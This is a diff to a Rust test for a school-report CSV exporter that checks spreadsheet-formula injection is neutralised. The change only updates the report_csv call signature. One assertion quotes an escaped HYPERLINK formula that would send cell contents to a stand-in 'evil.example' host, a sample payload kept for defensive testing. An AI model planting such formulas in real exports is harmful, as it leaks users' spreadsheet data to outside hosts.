@@ -66,7 +66,7 @@ fn report_csv_guards_formulas_and_reopens_as_the_same_report() {
     let school = &first.schools[0];
     assert_eq!(school.meta.name.as_deref(), Some(HOSTILE[0].1));
     let r = report::build(school, &Settings::default(), &first.diagnostics);
-    let csv = export::report_csv(&r);
+    let csv = export::report_csv(&r, &Default::default());
     assert_eq!(live_formulas(&csv), Vec::<String>::new());
     let text = String::from_utf8(csv.clone()).unwrap();
     assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Нажмите\"\")\""));
@@ -78,7 +78,7 @@ fn report_csv_guards_formulas_and_reopens_as_the_same_report() {
     let r2 = report::build(&again.schools[0], &Settings::default(), &again.diagnostics);
     assert_eq!(again.schools[0].meta, school.meta);
     assert_eq!(
-        export::report_csv(&r2),
+        export::report_csv(&r2, &Default::default()),
         csv,
         "the same report, byte for byte"
     );
